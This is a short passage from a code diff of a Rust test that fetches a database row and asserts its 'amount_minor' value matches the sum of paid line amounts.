+    .fetch_one(&app.db.pool)
+    .await
+    .unwrap();
+    assert_eq!(row["amount_minor"], paid_by_lines.to_string());
 }
